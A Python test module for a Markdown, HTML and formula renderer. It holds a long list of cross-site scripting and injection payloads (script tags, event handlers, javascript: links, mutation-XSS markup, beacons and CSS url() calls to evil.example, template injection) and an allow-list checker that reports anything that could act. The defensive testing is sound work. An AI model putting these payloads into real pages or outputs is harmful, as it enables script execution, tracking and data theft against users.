"""Answers that want more than to be read, and a reader of HTML that finds out whether they got it."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/beacon.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">click</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>send</button></form>",
    "<object data=https://evil.example></object>",
    '<a href="javascript:alert(1)">x</a>',
    "<a\nhref=javascript:alert(1)>x</a>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "</div></details><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "\\\\<script>alert(1)</script>",
    # entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x202E;gnp.exe",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x]()",
    "![x]()",
    "[x](\\\\evil.example)",
    "[x](../api/shutdown)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]: <javascript:alert(1)>\n\n[r]",
    "[r]:\n   javascript:alert(1)\n\n[r]",
    "> [r]: javascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<ftp://evil.example>",
    '[x](https://ok.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x](https://ok.example/'onmouseover=alert(1))",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/`onmouseover=alert`)",
    "[![i](javascript:alert(1))](javascript:alert(2))",
    "[a [b](javascript:alert(1)) c](https://ok.example)",
    # images
    "![x](https://evil.example/beacon.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "![<script>alert(1)</script>](https://evil.example/x.png)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "\\![x](https://evil.example/x.png)",
    "\\\\![x](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://ok.example)",
    # code
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```py onload=alert(1)\nx\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>`",
    "- ```html\n  <img src=x onerror=alert(1)>\n  ```",
    "> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "```\n</code></pre><script>alert(1)</script>",
    # formulas
    "$<script>alert(1)</script>$",
    "$x<img src=x onerror=alert(1)>$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "$\\require{html}\\style{background:url(https://evil.example)}{x}$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "$a\\) <script>alert(1)</script> \\(b$",
    # tables, headings, nesting
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:--" onload=alert(1)|\n| x |',
    "| [x](javascript:alert(1)) | `<b>` \\| |\n|---|---|\n| x | y |",
    "# <img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>\n===",
    "1. > - <script>alert(1)</script>",
    "**<script>**alert(1)**</script>**",
    # places where one renderer sees code or a formula and another does not
    "$`$ `<img src=x onerror=alert(1)>`",
    "$x\n  ```\ny$\n<img src=x onerror=alert(1)>\n  ```",
    "$$\n```\n$$\n\n```\n<img src=x onerror=alert(1)>\n```",
    "- a\n\n ```\n <img src=x onerror=alert(1)>\n ```",
    "```a`b\n\n```\n<img src=x onerror=alert(1)>\n```",
    "\\`<img src=x onerror=alert(1)>`",
    "<!--\n```\n--><img src=x onerror=alert(1)>\n```",
    "`a\n\n`<img src=x onerror=alert(1)>`",
    # more of the classes that browsers have fallen for
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<img src=x:x onerror=&#97;lert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#00"
    "00112&#0000116&#0000058alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script>alert(1)",
    "<IMG SRC='vbscript:msgbox(1)'>",
    "<BODY BACKGROUND='https://evil.example/beacon.png'>",
    "<BGSOUND SRC=https://evil.example/beacon>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/beacon.png autoplay onloadstart=alert(1)><source></video>",
    "<audio src=https://evil.example/beacon.mp3 autoplay onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=https://evil.example/beacon.png>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<frameset onload=alert(1)><frame src=https://evil.example></frameset>",
    "<table background=https://evil.example/beacon.png><td>x</table>",
    "<div style='background-image:url(https://evil.example/beacon.png)'>x</div>",
    "<div style='position:fixed;inset:0;background:#fff'>log in again</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<xss style='animation-name:x' onanimationstart=alert(1)></xss><style>@keyframes x{}</style>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href='https://ok.example' ping='https://evil.example/beacon'>x</a>",
    "<link rel=prefetch href=https://evil.example/beacon>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<portal src=https://evil.example></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<template><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1)></custom-element>",
    # markup that changes its meaning when it is parsed twice
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![endif]--><img src=x onerror=alert(1)>",
    # SVG and MathML
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image "
    "href=1 onerror=alert(1) /></svg>#x'/></svg>",
    "<svg><image href=https://evil.example/beacon.png></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    # more links, and entities in them
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](j&NewLine;avascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](javascript\uff1aalert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](jar:https://evil.example!/x)",
    "[x](ws://evil.example)",
    "[x](intent://evil.example#Intent;end)",
    "[x](http:javascript:alert(1))",
    "[x](https:\\\\evil.example)",
    "[x](https:/evil.example)",
    "[x](?javascript:alert(1))",
    '[x](#" onclick=alert(1) x=")',
    '[x](mailto:a@b.example?subject="><script>alert(1)</script>)',
    "[x](command:workbench.action.terminal.new)",
    "[x](vscode://evil.example)",
    '<https://ok.example/"onmouseover="alert(1)>',
    '<mailto:x@y.example"onclick="alert(1)>',
    "<vbscript:x>",
    "<blob:https://evil.example/x>",
    "javascript:alert(1)",
    "www.evil.example/<script>alert(1)</script>",
    "[x]\n\n[x]: javascript:alert(1) 'title'",
    "[x][]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "[X]: JAVASCRIPT:alert(1)\n\n[x]",
    "[x]: https://ok.example '\"><img src=x onerror=alert(1)>'\n\n[x]",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "[a\\]: javascript:alert(1)](https://ok.example)",
    "[\u202egpj.exe](https://ok.example/x)",
    "[https://ok.example\u2066](https://evil.example)",
    "![x](//evil.example/beacon.png)",
    "![x](\\\\evil.example\\beacon.png)",
    "![x][]\n\n[x]: https://evil.example/beacon.png",
    '![x](<https://evil.example/beacon.png> "t")',
    # what a renderer puts into an attribute
    *(
        f"{fence}{info}\nx\n{fence[-3:]}"
        for fence in ("```", "~~~", "> ```", "- ~~~", "1. ```", "    ```", "text\n```", "| a |\n|---|\n~~~", "````")
        for info in (
            'js" style="content-visibility:auto" oncontentvisibilityautostatechange="alert(1)',
            "js' onfocus='alert(1)' tabindex='0' autofocus='",
            "js onmouseover=alert(1)",
        )
    ),
    "```&quot; onmouseover=&quot;alert(1)\nx\n```",
    '```\\" onmouseover=\\"alert(1)\nx\n```',
    '```js title="" onmouseover="alert(1)"\nprint(1)\n```',
    '````` a"b onfocus=alert(1)\nx',
    '[x](https://ok.example "" onmouseover="alert(1)")',
    "[x](https://ok.example '\" onmouseover=\"alert(1)')",
    '[x](https://ok.example (" onmouseover="alert(1)))',
    '[x](https://ok.example/"onmouseover="alert(1)")',
    '[x]: https://ok.example "" onmouseover="alert(1)"\n\n[x]',
    '[^1" onmouseover="alert(1)]\n\n[^1" onmouseover="alert(1)]: x',
    '1" onmouseover="alert(1). x',
    '999999999" onfocus="alert(1)) x',
    '| a | b |\n|:-" onmouseover="alert(1)|-:|\n| c | d |',
    '<https://ok.example" onmouseover="alert(1)>',
    '# x {#id" onmouseover="alert(1)}',
    '![a" onerror="alert(1)](https://ok.example/a.png "b" onerror="alert(1)")',
    '- [x" onclick="alert(1)] task',
    # tricks with entities, code, formulas and frames
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0;<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J\x9b31m",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B\nclick A javascript:alert(1)\n```",
    "```math\n\\href{javascript:alert(1)}{x}\n```",
    "```{raw} html\n<script>alert(1)</script>\n```",
    "```html exec\n<script>alert(1)</script>\n```",
    "$\\unicode{x3c}img src=x onerror=alert(1)>$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\html{<img src=x onerror=alert(1)>}$",
    "$$\\includegraphics{https://evil.example/beacon.png}$$",
    "$\\mathchoice{\\href{javascript:alert(1)}{x}}{}{}{}$",
    "$\\text{$\\href{javascript:alert(1)}{x}$}$",
    "\\[\\href{javascript:alert(1)}{x}\\]",
    "$\\unicode[x;background:url(https://evil.example/u.png)]{65}$",
    "\\$\\unicode[x;background:url(https://evil.example/u.png)]{65}\\$",
    "&#36;\\\\unicode[x;background:url(https://evil.example/u.png)]{65}&#36;",
    "$" + "\\sqrt{" * 120 + "x" + "}" * 120 + "$",
    "$" + "\\left(" * 120 + "x" + "\\right)" * 120 + "$",
    "$\\sqrt" + "{%}\n\\sqrt" * 120 + "x$",
    "$\\gdef\\alpha{x}\\let\\beta\\gamma\\newcommand{\\pi}{3}\\renewcommand{\\sum}{0}$",
    "$$\\newenvironment{matrix}{}{}\\DeclareMathOperator{\\sin}{cos}$$",
    "$\\rlap{\\raise-9em{\\rule{99em}{99em}}}\\hspace{-99em}\\kern999em x$",
    "$\\fcolorbox{red;background:url(https://evil.example/c.png)}{x}{y}$",
    "$\\color{red;background:url(https://evil.example/c.png)}x$",
    "$a\\\\[1000em]b$",
    "$\\begin{alignat}{999999999}x\\end{alignat}$",
    "$" + "\\!" * 900 + "x$",
    "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
    "\\begin{align}\\style{background:url(https://evil.example/beacon.png)}{x}\\end{align}",
    "---\ntitle: <script>alert(1)</script>\n---",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{.x onclick=alert(1)}",
    "# x {onclick=alert(1)}",
    ":::{raw} html\n<script>alert(1)</script>\n:::",
    "> <details open ontoggle=alert(1)>\n> x",
    "- [ ] <img src=x onerror=alert(1)>",
    "~~<img src=x onerror=alert(1)>~~",
    "a<br/onload=alert(1)>b",
    "x\u2028<script>alert(1)</script>",
]

CANARY = "(window.canary = (window.canary || 0) + 1)"
"""What the payloads call in a browser, in place of ``alert(1)``: it needs no dialog, and can be read."""


def armed() -> list[str]:
    """Give the payloads so that a page can tell whether any of them ran."""
    return [payload.replace("alert(1)", CANARY).replace("alert(2)", CANARY) for payload in PAYLOADS]


ELEMENTS = set(
    "p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s a table thead tbody tr th td span div".split()
)
ATTRIBUTES = {"href", "rel", "target", "class", "start", "dir"}
MATHML = set(
    "math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt mstyle "
    "msub msubsup msup mtable mtd mtext mtr munder munderover b i".split()
)
"""The elements of formulas; their attributes hold a word, a number or a length, or how a cell is ruled."""
HARMLESS_VALUE = re.compile(r"[\w. +%-]*")
HARMLESS_STYLE = re.compile(r"((width|text-align|justify-items|padding-\w+|border-\w+): ?[\w. %]+;?)*")
SCHEMES = {"http", "https", "mailto"}


@dataclass
class Page(HTMLParser):
    """What a browser would find in a piece of HTML."""

    text: str = ""
    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("declaration", {}))

    def handle_pi(self, data: str) -> None:
        self.elements.append(("instruction", {}))

    def unknown_decl(self, data: str) -> None:
        self.elements.append(("declaration", {}))


def read(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


def faults(html: str, attributes: set[str] = ATTRIBUTES, schemes: set[str] = SCHEMES) -> list[str]:
    """Name whatever in `html` could act."""
    found = []
    for tag, attrs in read(html).elements:
        if tag in MATHML or (tag == "span" and str(attrs.get("class")).startswith("math-core-")):
            found += [
                f"{tag} with {name}={value}" for name, value in attrs.items() if not _is_of_a_formula(name, value)
            ]
            continue
        if tag not in ELEMENTS and (tag, attrs) != ("rp", {}):
            found.append(f"element {tag}")
        hides = {"hidden"} if attrs == {"class": "cozeloop-mathml", "hidden": "hidden"} else set()
        found += [f"{tag} with {name}" for name in attrs.keys() - attributes - hides]
        addresses = [attrs[name] or "" for name in ("href", "src") if name in attrs]
        found += [f"{tag} to {address}" for address in addresses if urlsplit(address.strip()).scheme not in schemes]
    return found


def _is_of_a_formula(name: str, value: str | None) -> bool:
    allowed = HARMLESS_STYLE if name == "style" else HARMLESS_VALUE
    return not name.startswith("on") and name not in ("href", "src") and bool(allowed.fullmatch(value or ""))
